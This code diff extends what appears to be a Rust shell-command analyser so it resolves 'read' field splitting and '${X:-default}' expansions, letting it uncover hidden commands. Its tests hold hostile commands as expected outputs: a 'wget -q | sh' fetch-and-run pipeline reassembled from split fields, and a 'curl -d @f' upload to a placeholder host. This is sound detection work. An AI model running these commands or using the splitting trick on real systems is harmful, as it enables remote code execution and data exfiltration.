@@ -90,6 +90,14 @@ impl Scope {
     pub(crate) fn learn(&mut self, command: &Command) {
         let words = &command.words;
         let first = words.first().map(|w| w.text.as_str());
+        let program = words
+            .iter()
+            .map(|w| w.text.as_str())
+            .find(|w| assignment(w).is_none());
+        if program == Some("read") {
+            self.read(command);
+            return;
+        }
         match first {
             Some("alias") => {
                 for w in &words[1..] {
@@ -101,6 +109,10 @@ impl Scope {
                         self.aliases.insert(name.to_string(), value.to_string());
                     }
                 }
+                return;
+            }
+            Some("read") => {
+                self.read(command);
                 return;
             }
             Some("unset" | "unalias") => {
@@ -142,6 +154,52 @@ impl Scope {
                 self.vars.insert(name.to_string(), value);
             } else {
                 self.vars.remove(name);
+            }
+        }
+    }
+
+    /// `IFS=, read -r a b c <<< 'x,y,z'`: the fields of a constant line.
+    fn read(&mut self, command: &Command) {
+        let Some(line) = command.redirects.iter().find(|r| r.op == "<<<") else {
+            for w in command
+                .words
+                .iter()
+                .skip(1)
+                .filter(|w| !w.text.starts_with('-'))
+            {
+                self.vars.remove(&w.text);
+            }
+            return;
+        };
+        let line = self.expand(&line.target.text, &[]).0;
+        let ifs = command
+            .words
+            .iter()
+            .find_map(|w| w.text.strip_prefix("IFS="))
+            .unwrap_or(" \t\n")
+            .to_string();
+        let names: Vec<&str> = command
+            .words
+            .iter()
+            .skip_while(|w| w.text != "read")
+            .skip(1)
+            .map(|w| w.text.as_str())
+            .filter(|w| !w.starts_with('-'))
+            .collect();
+        let mut fields = line
+            .split(|c: char| ifs.contains(c))
+            .filter(|f| !f.is_empty() || !ifs.contains(' '));
+        for (i, name) in names.iter().enumerate() {
+            let value = if i + 1 == names.len() {
+                fields
+                    .by_ref()
+                    .collect::<Vec<_>>()
+                    .join(&ifs[..ifs.chars().next().map_or(0, char::len_utf8)])
+            } else {
+                fields.next().unwrap_or("").to_string()
+            };
+            if value.len() <= MAX_VALUE && self.room(&self.vars, name) {
+                self.vars.insert((*name).to_string(), value);
             }
         }
     }
@@ -358,7 +416,14 @@ impl Scope {
         if name == "@" || name == "*" {
             return (!args.is_empty()).then(|| args.join(" "));
         }
-        let value = self.vars.get(name)?;
+        let Some(value) = self.vars.get(name) else {
+            // `${X:-default}`: the default, when X is not known.
+            return op
+                .strip_prefix(":-")
+                .or_else(|| op.strip_prefix('-'))
+                .filter(|d| !d.contains(['$', '`']))
+                .map(str::to_string);
+        };
         let op = op
             .strip_prefix("[@]")
             .or_else(|| op.strip_prefix("[*]"))
@@ -793,6 +858,14 @@ mod tests {
             Some("curl -d @f https://h.example")
         );
         assert_eq!(resolved("x=1\necho plain"), None);
+    }
+
+    #[test]
+    fn fields_and_defaults() {
+        assert_eq!(
+            resolved("IFS=, read -r a b c <<< 'wg,et,-q'\n\"$a$b\" $c | ${SHELL:-sh}").as_deref(),
+            Some("wget -q | sh")
+        );
     }
 
     #[test]
